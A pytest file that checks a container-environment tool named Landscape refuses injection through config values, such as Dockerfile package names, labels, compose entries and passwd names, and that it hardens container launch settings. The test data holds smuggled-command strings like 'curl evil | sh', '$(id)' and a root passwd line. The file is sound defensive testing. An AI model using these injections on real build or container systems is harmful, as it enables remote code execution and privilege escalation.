"""Class 3 and 4 — generated artifacts are built from data: the Dockerfile only carries
validated tokens, labels travel as data, the compose file is a serialised mapping, the
container configuration is structured, ``/etc/passwd`` names are validated, and config can
neither set Landscape's labels nor move the home tmpfs."""

from __future__ import annotations

import json

import os

import pytest
import yaml

from attacks import plant, refused
from landscape.context import resolve
from landscape.engine.launch import container_config, launch_spec, user_entries
from landscape.errors import LandscapeError
from landscape.imagekey import ImageSpec
from landscape.recipe import image_labels, render_dockerfile

SH010 = "projects/lighthouse/seq010/sh010"
PROJECT = "projects/lighthouse/landscape.yaml"

DOCKERFILE_ATTACKS = {
    "system package with a quote": ('image: {system_packages: [\'vim"; curl evil | sh; "\']}',
                                    "is not a Debian package name"),
    "system package with a newline": ('image: {system_packages: ["vim\\nRUN curl evil|sh"]}',
                                      "is not a Debian package name"),
    "tool system package": ('tools: {blender: {system_packages: ["$(id)"]}}',
                            "is not a Debian package name"),
    "label key with a newline": ('image: {labels: {"a\\nRUN evil": x}}', "invalid name"),
    "label key with a space": ('image: {labels: {"a b=c": x}}', "invalid name"),
    "reserved label": ('image: {labels: {io.landscape.key: "sha256:0"}}',
                       "this label is reserved"),
    "reserved OCI label": ('image: {labels: {org.opencontainers.image.title: x}}',
                           "this label is reserved"),
    "base with a newline": ('image: {base: "debian\\nRUN curl evil | sh"}',
                            "is not a Docker image reference"),
    "base with a flag": ('image: {base: "--platform=evil debian"}',
                         "is not a Docker image reference"),
}


@pytest.mark.parametrize("name", list(DOCKERFILE_ATTACKS))
def test_dockerfile_values_are_validated_at_check(example, cli, name):
    text, message = DOCKERFILE_ATTACKS[name]
    plant(example, PROJECT, "level: project\n" + text + "\n")
    refused(cli("check", example), "lighthouse/landscape.yaml:2:", message)


@pytest.mark.parametrize("field,value", [
    ("base", "debian\nRUN evil"), ("system_packages", ["vim\nRUN evil"]),
    ("labels", {"io.landscape.key": "x"}), ("labels", {"bad key": "x"}),
    ("rez_version", "3.4.0\nRUN evil")])
def test_the_image_spec_refuses_what_the_schema_would(example, field, value):
    spec = resolve(example / SH010).image
    kwargs = {k: getattr(spec, k) for k in ("project", "base", "system_packages", "rez_version",
                                            "packages", "tools", "repositories", "labels")}
    kwargs[field] = value
    with pytest.raises(LandscapeError):
        ImageSpec(**kwargs)


def test_label_values_never_reach_the_dockerfile_and_keep_their_dollars(example):
    plant(example, PROJECT, 'level: project\nimage: {labels: {com.example.note: '
          '"$HOME ${PATH} \\" \\n LABEL x=y"}}\n')
    spec = resolve(example / SH010).image
    text = render_dockerfile(spec)
    assert "com.example.note" not in text and "$HOME" not in text and "LABEL" not in text
    labels = image_labels(spec)
    assert labels["com.example.note"] == '$HOME ${PATH} " \n LABEL x=y'
    assert labels["io.landscape.key"] == spec.key  # Landscape's own, whatever config says


def test_repository_paths_and_package_names_are_not_in_dockerfile_comments(studio):
    root = studio({"landscape.yaml": """
        root: true
        rez: {packages_path: ["pk\\nRUN evil"]}
        packages: [python]
    """})
    repo = root / "pk\nRUN evil"
    repo.mkdir()
    (root / "packages").rename(repo / "unused")
    from conftest import package
    package(repo, "python", "3.11")
    text = render_dockerfile(resolve(root).image)
    assert "evil" not in text
    assert [line.split()[0] for line in text.splitlines() if line[:1].isupper()] == [
        "FROM", "ARG", "ARG", "ARG", "COPY", "RUN", "FROM", "ENV", "COPY", "RUN", "COPY", "RUN",
        "COPY", "COPY", "RUN"]


def test_compose_values_are_data_not_text(example, studio):
    from landscape.cascade import build_cascade
    from landscape.engine.stack import compose_document
    from landscape.plan import make_plan

    plant(example, PROJECT, """
        level: project
        features: {dailies: {port: 8099}}
        services:
          notes:
            image: landscape/base:bookworm
            command: ["sh", "-c", "echo ${SECRET}\\"\\nprivileged: true"]
            environment: {A: "x\\n  privileged: true", B: "$HOME"}
    """)
    plan = make_plan(example / "projects/lighthouse")
    doc = compose_document(plan, build_cascade(example / "projects/lighthouse"))
    text = yaml.safe_dump(doc)
    back = yaml.safe_load(text)
    assert back == doc
    notes = back["services"]["notes"]
    assert "privileged" not in notes
    assert notes["command"][2] == 'echo $${SECRET}"\nprivileged: true'  # $$: no interpolation
    assert notes["environment"] == {"A": "x\n  privileged: true", "B": "$$HOME"}
    assert notes["security_opt"] == ["no-new-privileges:true"]


@pytest.mark.parametrize("options,message", [
    ('{port: "8080\\"\\n    privileged: true"}', "must be an integer"),
    ("{port: 70000}", "70000 is greater than the maximum"),
    ("{bind: 0.0.0.0}", "publishing a port on 0.0.0.0 needs policy.allowed_binds"),
    ('{bind: "127.0.0.1:80:80\\n"}', "is not a 'ipv4'"),
    ("{evil: 1}", "unknown key 'evil'"),
])
def test_feature_options_are_validated_values(example, cli, options, message):
    plant(example, PROJECT, f"level: project\nfeatures: {{dailies: {options}}}\n")
    refused(cli("check", example), "lighthouse/landscape.yaml:2:", message)


def test_the_root_may_allow_a_wider_bind(example, cli):
    root = example / "landscape.yaml"
    root.write_text(root.read_text() + "policy: {allowed_binds: [127.0.0.1, 0.0.0.0]}\n")
    plant(example, PROJECT, "level: project\nfeatures: {dailies: {bind: 0.0.0.0}}\n")
    assert cli("check", example).code == 0


@pytest.mark.parametrize("var", ["USER", "LOGNAME", "HOME"])
def test_identity_variables_cannot_be_set_by_config(example, cli, var):
    plant(example, f"{SH010}/landscape.yaml",
          f'level: shot\nenv: {{{var}: "/landscape\\nevil:x:0:0::/:/bin/sh"}}\n')
    refused(cli("check", example), "sh010/landscape.yaml:2:", f"env.{var}: {var} is the "
            "launching user's own")


@pytest.mark.parametrize("name", ["a:b", "evil\nroot:x:0:0::/:/bin/sh", "", "x" * 40, "-x",
                                  "a b", "ü"])
def test_passwd_entries_refuse_unsafe_names(name):
    with pytest.raises(ValueError):
        user_entries(1000, 1000, name, "/home/x", [])


def test_passwd_has_exactly_root_and_the_user(example):
    passwd, group = user_entries(1000, 1000, "artist", "/home/artist", [1000, 27])
    assert passwd.splitlines() == ["root:x:0:0:root:/root:/bin/sh",
                                   "artist:x:1000:1000:artist:/home/artist:/bin/sh"]
    assert all(line.count(":") == 3 for line in group.splitlines())


def test_launch_configuration_is_structured_and_hardened(example):
    src = example / "projects/with,source=/etc,x"
    src.mkdir(parents=True)
    plant(example, f"{SH010}/landscape.yaml",
          f"level: shot\nstorage: [{{source: '{src}', target: /mnt/odd}}]\n")
    rc = resolve(example / SH010, tool="blender")
    spec = launch_spec(rc, ["--", "-x"])
    config = container_config(spec, [("/tmp/f0", "/etc/passwd")])
    host = config["HostConfig"]
    mounts = {m["Target"]: m["Source"] for m in host["Mounts"]}
    assert mounts["/mnt/odd"] == str(src)  # one field, whatever it holds: no CSV to escape
    assert host["SecurityOpt"] == ["no-new-privileges:true"]
    assert host["CapDrop"] == ["ALL"] and host["CapAdd"] is None
    assert host["ReadonlyRootfs"] is True and host["PidsLimit"] == 4096
    assert host["Init"] is True and host["AutoRemove"] is True
    assert spec.home.startswith(("/home/", "/root")) and spec.home not in host["Tmpfs"]
    home = next(m for m in host["Mounts"] if m["Target"] == spec.home)  # launch.home: persistent
    assert home["Source"] == spec.home_source and home["ReadOnly"] is False
    assert spec.home_source.endswith(f"/{spec.home_names[1]}/blender")
    assert spec.home_names[1].startswith("lighthouse-")  # the project by name and folder
    assert f"HOME={spec.home}" in config["Env"]
    assert config["User"] == f"{spec.uid}:{spec.gid}"
    assert config["Cmd"][:3] == ["/landscape/bin/landscape-enter", rc.workdir,
                                 str(len(rc.dirs))]
    assert json.loads(json.dumps(config)) == config  # plain JSON data, as sent


def test_terminal_and_streamed_launches_share_one_configuration(example):
    spec = launch_spec(resolve(example / SH010, tool="blender"), [])
    streamed = container_config(spec, [], tty=False, stdin=False)
    terminal = container_config(spec, [], tty=True, stdin=True)
    differ = {k for k in streamed if streamed[k] != terminal[k]}
    assert differ == {"Tty", "OpenStdin", "StdinOnce", "AttachStdin"}


def test_capabilities_need_the_root_policy(example, cli):
    plant(example, f"{SH010}/landscape.yaml",
          "level: shot\ntools: {blender: {capabilities: [SYS_PTRACE]}}\n")
    refused(cli("check", example), "tools.blender.capabilities[0]: tool 'blender' asks for "
            "capability SYS_PTRACE, which policy.allowed_capabilities does not allow")
    root = example / "landscape.yaml"
    root.write_text(root.read_text() + "policy: {allowed_capabilities: [SYS_PTRACE]}\n")
    assert cli("check", example).code == 0
    spec = launch_spec(resolve(example / SH010, tool="blender"), [])
    assert spec.cap_add == ["SYS_PTRACE"]


def test_stack_names_differ_between_studios(tmp_path):
    from landscape.engine.stack import compose_project_name

    a = compose_project_name(tmp_path / "a", "lighthouse")
    b = compose_project_name(tmp_path / "b", "lighthouse")
    assert a != b and a.startswith("landscape-lighthouse-")
    assert compose_project_name(tmp_path / "a", "lighthouse") == a
    (tmp_path / "link").symlink_to(tmp_path / "a")
    assert compose_project_name(tmp_path / "link", "lighthouse") == a  # by real path


def test_the_internal_context_setup_is_not_a_tool_name(example, cli):
    plant(example, f"{SH010}/landscape.yaml", "level: shot\ntools: {.context: {command: [x]}}\n")
    refused(cli("check", example), "invalid name '.context'")
    os.environ.get("PATH")
